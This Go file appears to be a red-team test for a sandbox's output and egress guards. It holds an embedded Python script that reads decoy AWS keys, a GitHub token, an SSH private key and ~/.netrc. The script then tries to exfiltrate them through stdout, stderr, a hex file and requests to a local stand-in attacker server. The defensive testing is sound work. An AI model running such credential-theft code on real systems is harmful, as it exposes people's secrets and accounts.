package redteam

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"time"

	"github.com/moat-sandbox/moat/engine"
	"github.com/moat-sandbox/moat/manifest"
	"github.com/moat-sandbox/moat/result"
)

// Canary credentials (issue 21 §3): the manifest plants decoys; the
// program reads every one and tries to carry them out through each
// channel it has: stdout, stderr (base64), a file of the diff (hex), and
// the egress proxy to an allowed "attacker" host (URL path, base64 body,
// a DNS label). Judged from the host, on its own (not with package
// output's detectors, the code under attack): what the attacker server
// received, and whether the result's canary violation names every
// channel.
func registerCanaryCases() {
	register(Case{
		ID: "canary-exfil-output-egress", Category: "exfiltration", Severity: "high",
		Threat: "read the planted decoy credentials (AWS key pair and GitHub token in env, ~/.ssh/id_ed25519, ~/.netrc) and send them out through stdout, stderr as base64, a new file as hex, and an allowed host's URL path, a base64 request body and a DNS label",
		Why:    "output.canaries plants per-run decoys; the output-channel guard finds them in any encoded form in stdout, stderr and the diff's files, and the egress proxy refuses them in every request, host name and body it sees, as a placeholder bound nowhere: the run gets one canary violation naming stdout, stderr, the file and egress, and the attacker server receives none of them (a benign request to it, the control, arrives)",
		custom: canaryExfil,
	})
}

const canaryPy = `
import base64, json, os, sys, urllib.request
tok = {k: os.environ[k] for k in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN")}
key = open(os.path.expanduser("~/.ssh/id_ed25519")).read()
netrc = open(os.path.expanduser("~/.netrc")).read()
print("TOKENS " + json.dumps(tok))
print(key)
sys.stderr.write(base64.b64encode(key.encode()).decode() + "\n")
open("loot.hex", "w").write(netrc.encode().hex())
port = sys.argv[1]
def send(url, body=None):
    try:
        urllib.request.urlopen(urllib.request.Request(url, data=body), timeout=10).read()
        print("SENT", url[:40])
    except Exception as e:
        print("REFUSED", type(e).__name__, getattr(e, "code", ""))
send("http://localhost:%s/control" % port)
send("http://localhost:%s/p/%s" % (port, tok["GITHUB_TOKEN"]))
send("http://localhost:%s/b" % port, base64.b64encode(("k=" + tok["AWS_SECRET_ACCESS_KEY"]).encode()))
send("http://%s.x.localhost:%s/" % (tok["AWS_ACCESS_KEY_ID"].lower(), port))
`

func canaryExfil(ctx context.Context, r *runner) (string, string, int) {
	atk, err := startSecretAttacker()
	if err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	defer atk.srv.Close()
	port := strconv.Itoa(atk.port)
	m := r.defaults()
	m.Output.Canaries = true
	m.Network.Mode = "allowlist"
	m.Network.Allow = []string{"localhost:" + port, "*.x.localhost:" + port}
	m.Network.AllowAddresses = []string{"127.0.0.1"}
	m.Resources.Timeout = manifest.Duration(90 * time.Second)
	m.Resources.CPUTime = m.Resources.Timeout
	if err := m.Validate(); err != nil {
		return Error, "manifest: " + err.Error(), 0
	}
	m.Tier = r.tier // after validation, as netRun
	res, err := r.exec(ctx, &engine.Request{Manifest: m, Argv: []string{"python3", "-c", canaryPy, port}})
	if err != nil {
		var fe *manifest.FieldError
		if errors.As(err, &fe) && fe.Field == "network.mode" {
			return NotApplicable, "the tier has no egress proxy: " + err.Error(), 0
		}
		v, ev, _ := runErr(err)
		return v, ev, 0
	}
	out := decode(res.Stdout)
	mt := regexp.MustCompile(`TOKENS \{"AWS_ACCESS_KEY_ID": "([A-Z0-9]+)", "AWS_SECRET_ACCESS_KEY": "([A-Za-z0-9]+)", "GITHUB_TOKEN": "([A-Za-z0-9_]+)"\}`).FindStringSubmatch(out)
	if mt == nil {
		return Error, fmt.Sprintf("the program printed no decoys: canaries were not planted (exit %d, stdout %q, stderr %q)", res.ExitCode, clip(out, 200), clip(decode(res.Stderr), 300)), 1
	}
	reqs := atk.requests()
	control := false
	for _, q := range reqs {
		control = control || strings.Contains(q, "/control")
		for _, tok := range mt[1:] {
			for _, form := range []string{tok, hex.EncodeToString([]byte(tok)), base64.StdEncoding.EncodeToString([]byte("k=" + tok))} {
				if containsFold(q, form) {
					return Escaped, fmt.Sprintf("the attacker server received a decoy (%d bytes of request)", len(q)), 1
				}
			}
		}
	}
	if !control {
		return Error, fmt.Sprintf("the control request never reached the attacker server: egress did not work (%s; %s)", egressReasons(res), netTail(res)), 1
	}
	var detail string
	for _, v := range res.Violations {
		if v.Kind == result.ViolationCanary {
			detail = v.Detail
		}
	}
	for _, want := range []string{"stdout", "stderr", "file:loot.hex", "egress"} {
		if !strings.Contains(detail, want) {
			return Escaped, fmt.Sprintf("a decoy left through %s unflagged (canary violation: %q)", want, detail), 1
		}
	}
	return Contained, "one canary violation names every channel (" + clip(detail, 300) + "); the attacker server received only the control request", 1
}
